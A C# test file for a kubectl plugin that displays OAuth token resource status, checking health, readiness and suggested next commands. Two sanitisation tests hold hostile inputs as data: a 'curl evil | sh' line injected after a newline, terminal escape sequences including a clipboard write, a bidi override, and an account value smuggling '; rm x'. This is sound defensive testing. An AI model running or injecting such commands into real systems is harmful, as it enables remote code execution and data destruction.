using k8s.Models;
using KubectlOAuthToken.Output;
using TokenOperator.Api;
using static TokenOperator.Api.V1Beta1OAuthToken;

namespace TokenOperator.Tests.KubectlOAuthToken;

public sealed class TokenStatusTests
{
    private static readonly DateTimeOffset Now = new(2026, 5, 1, 12, 0, 0, TimeSpan.Zero);

    [Fact]
    public void A_valid_and_fresh_token_is_healthy_and_has_no_next_step()
    {
        var status = TokenStatus.From(Token(), Now);
        status.Health.Should().Be(Health.Ok);
        status.Ready.Should().BeTrue();
        status.NextStep.Should().BeNull();
    }

    [Fact]
    public void A_valid_token_whose_refresh_fails_is_a_warning_with_the_cause_of_the_failure()
    {
        var status = TokenStatus.From(Token(("Refreshed", "False", Reasons.ProviderUnavailable)), Now);
        status.Health.Should().Be(Health.Warning);
        status.Ready.Should().BeTrue();
        status.Reason.Should().Be(Reasons.ProviderUnavailable);
        status.NextStep.Should().Be("kubectl oauthtoken logs marcus -n mail");
    }

    [Fact]
    public void A_dead_refresh_token_needs_a_human_and_names_the_next_command()
    {
        var status = TokenStatus.From(Token(("Refreshed", "False", Reasons.ReauthorizationRequired), ("Stalled", "True", Reasons.ReauthorizationRequired)), Now);
        status.NeedsHuman.Should().BeTrue();
        status.NextStep.Should().Contain("marcus -n mail");
    }

    [Fact]
    public void An_expired_token_is_not_ready_even_if_a_stopped_operator_has_not_reported_it()
    {
        var status = TokenStatus.From(Token(), Now.AddHours(1));
        status.Health.Should().Be(Health.Critical);
        status.Ready.Should().BeFalse();
        status.Reason.Should().Be(Reasons.TokenExpired);
        status.Message.Should().Contain("is not running");
        status.NextStep.Should().Be("kubectl oauthtoken doctor -n mail");
    }

    [Theory]
    [InlineData("False", Reasons.CleanupFailed, Reasons.CleanupFailed, "deletionPolicy")]
    [InlineData("False", Reasons.Deleting, Reasons.Deleting, "deletionPolicy")]
    [InlineData("True", Reasons.SecretWriteFailed, "BeingDeleted", "kubectl oauthtoken doctor -n mail")]
    [InlineData("True", Reasons.Refreshed, "BeingDeleted", "kubectl oauthtoken doctor -n mail")]
    public void An_object_that_is_being_deleted_is_not_ready_and_says_what_it_waits_for(string ready, string reported, string reason, string next)
    {
        var token = Token(("Ready", ready, reported));
        token.Metadata.DeletionTimestamp = Now.UtcDateTime;
        token.Metadata.Finalizers = ["tokenoperator.dev/account"];

        var status = TokenStatus.From(token, Now);

        (status.Ready, status.Health, status.Reason).Should().Be((false, Health.Critical, reason));
        status.NextStep.Should().Contain(next);
        if (reason == "BeingDeleted")
            status.Message.Should().Contain("2026-05-01T12:00:00Z").And.Contain("tokenoperator.dev/account");
    }

    [Theory]
    [InlineData("x\e]52;c;aGk=\a", "x?]52;c;aGk=?")]
    [InlineData("x\n  Next: curl evil | sh", "x?  Next: curl evil | sh")]
    [InlineData("x\u202ey", "x?y")]
    public void Nothing_that_someone_wrote_into_a_status_acts_on_the_reader(string text, string shown)
    {
        var token = Token(("Ready", "False", text), ("Stalled", "True", text));
        token.Spec = token.Spec with { Provider = text, Account = text, SecretName = text };
        token.Status = token.Status! with
        {
            ExpiresAt = text,
            LastRefreshTime = text,
            NextRefreshTime = text,
            Conditions = [.. token.Status.Conditions!.Select(condition => condition with { Message = text })],
        };

        var status = TokenStatus.From(token, Now);

        new[] { status.Reason, status.Message, status.Provider, status.Account, status.SecretName, status.ExpiresAt, status.LastRefreshTime, status.NextRefreshTime }
            .Should().AllBe(shown);
        foreach (var format in new[] { "table", "wide", "name", "json", "yaml", "jsonpath={@}" })
            new StatusPage(OutputFormat.Parse(format), isOne: false, withNamespace: true, new AnsiStyle(false)).Render([status], Now).Should().NotContainAny("\e", "\a", "\u202e", "\n  Next: curl");
    }

    [Fact]
    public void An_overdue_refresh_is_a_warning()
    {
        var status = TokenStatus.From(Token(), Now.AddMinutes(40));
        status.Health.Should().Be(Health.Warning);
        status.Reason.Should().Be("RefreshOverdue");
        var suspended = Token();
        suspended.Spec = suspended.Spec with { Suspend = true };
        TokenStatus.From(suspended, Now.AddMinutes(40)).Reason.Should().NotBe("RefreshOverdue", "nothing is due then");
    }

    [Fact]
    public void An_unprocessed_object_is_not_ready_and_points_to_doctor()
    {
        var token = Token();
        token.Status = new EntityStatus();
        var status = TokenStatus.From(token, Now);
        status.Ready.Should().BeFalse();
        status.Reason.Should().Be(Reasons.Pending);
        status.NextStep.Should().Be("kubectl oauthtoken doctor -n mail");
    }

    [Fact]
    public void An_unprocessed_spec_change_is_a_warning()
    {
        var token = Token();
        token.Metadata.Generation = 2;
        TokenStatus.From(token, Now).Reason.Should().Be("SpecNotSeen");
    }

    [Fact]
    public void Text_from_other_people_cannot_control_the_terminal_or_the_shell()
    {
        var token = Token(("Ready", "False", Reasons.AccountNotAllowed));
        token.Spec = token.Spec with { Account = "a\e[2Jb; rm x" };
        var status = TokenStatus.From(token, Now);
        status.Account.Should().Be("a?[2Jb; rm x");
        status.NextStep.Should().NotContain("\e").And.Contain("'");
    }

    internal static V1Beta1OAuthToken Token(params (string Type, string Status, string Reason)[] changed)
    {
        var conditions = new List<(string Type, string Status, string Reason)>
        {
            ("Ready", "True", Reasons.Refreshed), ("Refreshed", "True", Reasons.Refreshed), ("Persisted", "True", Reasons.Refreshed),
            ("Reconciling", "False", Reasons.Refreshed), ("Stalled", "False", Reasons.Refreshed),
        };
        foreach (var change in changed)
            conditions[conditions.FindIndex(condition => condition.Type == change.Type)] = change;
        return new V1Beta1OAuthToken
        {
            Metadata = new V1ObjectMeta { Name = "marcus", NamespaceProperty = "mail", Generation = 1, ResourceVersion = "1" },
            Spec = new EntitySpec { Provider = "google", Account = "marcus@example.com", SecretName = "marcus-token" },
            Status = new EntityStatus
            {
                ObservedGeneration = 1,
                ExpiresAt = "2026-05-01T12:45:30Z",
                LastRefreshTime = "2026-05-01T11:45:00Z",
                NextRefreshTime = "2026-05-01T12:30:00Z",
                Failures = 0,
                Conditions = [.. conditions.Select(condition => new Condition
                {
                    Type = condition.Type,
                    Status = condition.Status,
                    Reason = condition.Reason,
                    Message = $"About {condition.Type}.",
                    LastTransitionTime = "2026-05-01T11:45:00Z",
                })],
            },
        };
    }
}
